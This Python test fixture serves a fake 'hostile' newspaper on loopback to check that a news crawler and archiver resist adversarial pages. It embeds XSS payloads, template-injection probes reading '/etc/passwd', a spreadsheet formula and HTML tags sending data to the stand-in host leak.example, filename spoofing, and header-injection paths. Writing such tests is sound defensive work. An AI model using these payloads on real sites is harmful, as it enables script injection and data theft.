"""`HostilePaper`: a newspaper that tries, in every place that an archive shows, to be more than text."""

from __future__ import annotations

import html
import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from tests.server.crawl import LOOPBACK

__all__ = ["ATTACKS", "HOST", "hostile_paper"]

HOST = "hostile.example"
_RUN = "window.pwned=1"
ATTACKS = (
    f"<script>{_RUN}</script>",
    f'"><img src=x onerror={_RUN}>',
    f"' autofocus onfocus='{_RUN}' x='",
    f"</title></textarea></script><script>{_RUN}</script>",
    "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}#{7*7}",
    f"javascript:{_RUN}",
    "</style><style>*{display:none!important}</style>",
    "\u202egnp.exe\u2066\u2069 \u200b",
    '=HYPERLINK("http://leak.example/?"&A1;"click")',
    f"<svg/onload={_RUN}><math><mi//xlink:href='data:x,<script>{_RUN}</script>'>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<base href=//leak.example/><meta http-equiv=refresh content='0;url=http://leak.example/'>",
    "<form action=http://leak.example/><button id=main>Log in</button>",
    "<link rel=stylesheet href=http://leak.example/x.css><img src=//leak.example/x.png>",
    "&lt;script&gt;%3Cscript%3E\\u003cscript\\u003e&#60;script&#62;",
    "W" * 3000,
)
_SENTENCE = "the {n} neighbours who had gathered on the quay agreed that nobody could remember anything of the kind."
_SOURCE = f"""
title = "<script>{_RUN}</script>"
home = "http://{HOST}"
feeds = ["/feed"]
language = "en"
timezone = "Europe/London"
sections = ["/"]
article_urls = ['/\\d{{4}}/.+']
"""


def _page(number: int) -> bytes:
    """An article that says one thing everywhere."""
    attack = ATTACKS[number]
    text = html.escape(attack)
    data = {
        "@context": "https://schema.org",
        "@type": "LiveBlogPosting" if number % 5 == 4 else "NewsArticle",
        "headline": f"Headline {number} {text}",  # who reads it undoes that
        "description": attack,
        "author": [{"@type": "Person", "name": f"Mal {attack}", "url": attack}],
        "articleSection": attack,
        "keywords": [attack, attack],
        "image": attack if number % 2 else f"javascript:{_RUN}",
        "datePublished": "2026-11-20T09:00:00Z" if number % 3 else attack,
        "inLanguage": "en",
        "liveBlogUpdate": [
            {"@type": "BlogPosting", "headline": attack, "datePublished": "2026-11-20T09:30:00Z",
             "articleBody": f"{attack} and then {_SENTENCE.format(n=number)}"},
        ],
    }  # fmt: skip
    paragraphs = "".join(
        f"<p>{text[:400]} upon the harbour wall, and {_SENTENCE.format(n=n)}</p>" for n in range(number, number + 5)
    )
    ld = json.dumps(data).replace("</", "<\\/")
    return (
        f'<!DOCTYPE html><html lang="{text[:60]}"><head><meta charset="utf-8"><title>{text}</title>'
        f'<link rel="canonical" href="{text[:300]}"><link rel="license" href="{text[:300]}">'
        f'<meta name="author" content="{text}"><meta name="robots" content="noai, {text[:200]}">'
        f'<meta name="tdm-policy" content="{text[:300]}"><meta property="og:type" content="article">'
        f'<script type="application/ld+json">{ld}</script></head><body><main><article>'
        f"<h1>Headline {number} {text}</h1>{paragraphs}"
        f"<figure><img src=x><figcaption>{text[:300]}</figcaption></figure></article>"
        f'<aside class="newsletter"><p>Sign up for our newsletter {text[:300]}</p></aside></main></body></html>'
    ).encode("utf-8", "surrogatepass")


class _Handler(http.server.BaseHTTPRequestHandler):
    second = False

    def do_GET(self) -> None:
        if self.path == "/feed":
            items = "".join(
                f"<item><title>{html.escape(attack[:900])}</title><link>http://{HOST}{_path(n)}</link>"
                f"<description>{html.escape(attack[:900])}</description>"
                f"<guid>{html.escape(attack[:900])}</guid></item>"
                for n, attack in enumerate(ATTACKS)
            )
            self._send(f"<rss version='2.0'><channel><title>x</title>{items}</channel></rss>".encode(), "text/xml")
        elif self.path == "/":
            self._send(f"<a href='/2026/away'>{html.escape(ATTACKS[0])}</a>".encode())
        elif self.path == "/2026/away":
            self._send(b"", status=f"302 {ATTACKS[0]}", Location=f"javascript:{_RUN}")
        elif self.path.startswith("/2026/"):
            number = int(self.path.removeprefix("/2026/").partition("-")[0])
            body = _page(number)
            if self.second:
                body = body.replace(
                    b"quay agreed", b"<b>bold quay &lt;script&gt;window.pwned=1&lt;/script&gt;</b> agreed"
                )
            self._send(
                body, status=f"200 {ATTACKS[number % 2]}", **{"X-Note": ATTACKS[number].encode().decode("latin-1")}
            )
        else:
            self._send(b"no", status="404 <b onclick=1>")

    def _send(
        self, body: bytes, kind: str = "text/html; charset=utf-8", status: str = "200 OK", **headers: str
    ) -> None:
        lines = [f"HTTP/1.1 {status}", f"Content-Type: {kind}", f"Content-Length: {len(body)}", "Connection: close"]
        lines += [f"{name}: {value}" for name, value in headers.items()]
        self.wfile.write("\r\n".join([*lines, "", ""]).encode("latin-1") + body)
        self.close_connection = True

    def log_message(self, format: str, *args: object) -> None:
        pass


def _path(number: int) -> str:
    names = (
        "x",
        "%22%3E%3Cimg%20src=x%20onerror=window.pwned=1%3E",
        "a'b",
        "..;/x",
        "%E2%80%AEgnp.exe",
        "a%0d%0aX:%20y",
    )
    return f"/2026/{number}-{names[number % len(names)]}"


@contextmanager
def hostile_paper(folder: Path) -> Iterator[tuple[dict[str, object], type[_Handler]]]:
    """The paper, on loopback: settings for a crawl of it, and where to say that it prints its second edition."""
    (folder / "sources").mkdir()
    (folder / "sources" / "hostile.toml").write_text(_SOURCE)
    handler = type("Handler", (_Handler,), {})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield (
            {
                "SOURCES": folder / "sources",
                "CONNECT_TO": f"{HOST}:80:127.0.0.1:{server.server_port}",
                **LOOPBACK,
                "EXTRACT_WORKERS": 1,
                "CONCURRENT_REQUESTS_PER_DOMAIN": 8,
            },
            handler,
        )
        server.shutdown()
        thread.join()
